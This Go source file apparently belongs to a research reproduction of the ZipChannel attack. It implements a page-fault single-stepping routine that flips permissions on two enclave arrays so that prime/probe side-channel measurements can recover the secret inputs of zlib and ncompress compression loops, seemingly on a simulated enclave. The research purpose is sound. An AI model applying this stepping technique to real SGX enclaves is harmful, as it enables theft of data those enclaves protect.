package sgx

import (
	"fmt"

	"github.com/zipchannel/zipchannel/internal/vm"
)

// Stepper2 single-steps gadget loops with two protected arrays instead of
// bzip2's three: one the loop reads (the input buffer) and one it
// dereferences at a secret-dependent index (the table). The zlib
// INSERT_STRING loop (read window, store head[ins_h]) and the ncompress
// probe loop (read inputbuf, probe htab[hp]) both fit this shape, which
// lets the §V attack machinery extract their inputs end to end — the
// extension the paper's §IV-E survey implies but only demonstrates for
// bzip2.
type Stepper2 struct {
	e              *Enclave
	readSym        string // array the loop reads sequentially
	tableSym       string // array indexed by the secret-derived value
	tableWriteOnly bool   // true when only stores to the table should fault

	// OnTransition mirrors Stepper.OnTransition.
	OnTransition func()

	started bool
	obs     stepperObs
}

// NewStepper2 builds the two-array stepper. If tableWriteOnly is true the
// table keeps read permission while stepping (zlib's head is only
// written); otherwise all access faults (ncompress's htab is probed by
// loads).
func NewStepper2(e *Enclave, readSym, tableSym string, tableWriteOnly bool) *Stepper2 {
	return &Stepper2{e: e, readSym: readSym, tableSym: tableSym, tableWriteOnly: tableWriteOnly}
}

func (s *Stepper2) transition() {
	s.obs.transitions.Inc()
	if s.OnTransition != nil {
		s.OnTransition()
	}
}

func (s *Stepper2) tableRevokedPerm() vm.Perm {
	if s.tableWriteOnly {
		return vm.PermRead
	}
	return 0
}

// Start runs the enclave (input read, any init that touches only the
// read-array) until the first table access faults. It returns that first
// faulting table page, or ok=false if the enclave halted first.
func (s *Stepper2) Start() (firstPage uint64, ok bool, err error) {
	if err := s.e.Protect(s.tableSym, s.tableRevokedPerm()); err != nil {
		return 0, false, err
	}
	s.transition()
	f, faulted, err := s.e.Resume()
	if err != nil {
		return 0, false, err
	}
	if !faulted {
		return 0, false, nil
	}
	s.started = true
	s.obs.starts.Inc()
	return f.PageBase, true, nil
}

// Step advances one loop iteration from a table-access fault:
//
//  1. prime(tablePage) runs with the enclave stopped at the faulting
//     table access (whose page the caller got from Start or the previous
//     Step).
//  2. Table permission is restored and the read-array revoked; the table
//     access executes (the only table access between prime and probe),
//     the loop wraps, and the next read-array load faults.
//  3. probe() runs.
//  4. The read-array is restored and the table revoked again; execution
//     proceeds to the next table access, whose page is returned.
//
// done=true means the enclave halted (no further table accesses).
func (s *Stepper2) Step(prime func(), probe func()) (nextPage uint64, done bool, err error) {
	if !s.started {
		return 0, false, fmt.Errorf("%w: Step before Start", ErrProtocol)
	}
	if prime != nil {
		prime()
	}

	// Let the table access through; stop at the next input read.
	if err := s.e.Protect(s.tableSym, vm.PermRW); err != nil {
		return 0, false, err
	}
	if err := s.e.Protect(s.readSym, 0); err != nil {
		return 0, false, err
	}
	s.transition()
	f, faulted, err := s.e.Resume()
	if err != nil {
		return 0, false, err
	}

	if probe != nil {
		probe()
	}
	s.obs.iterations.Inc()

	if !faulted {
		return 0, true, nil // halted: that table access was the last
	}
	if f.Write {
		return 0, false, fmt.Errorf("%w: expected read fault on %s", ErrProtocol, s.readSym)
	}

	// Re-arm the table and run to its next access.
	if err := s.e.Protect(s.readSym, vm.PermRW); err != nil {
		return 0, false, err
	}
	if err := s.e.Protect(s.tableSym, s.tableRevokedPerm()); err != nil {
		return 0, false, err
	}
	s.transition()
	f, faulted, err = s.e.Resume()
	if err != nil {
		return 0, false, err
	}
	if !faulted {
		return 0, true, nil // halted after the last input byte
	}
	return f.PageBase, false, nil
}

// DryTransition replays one permission-flip's worth of transition noise
// without advancing the victim, for frame vetting (§V-C2).
func (s *Stepper2) DryTransition() {
	s.transition()
}
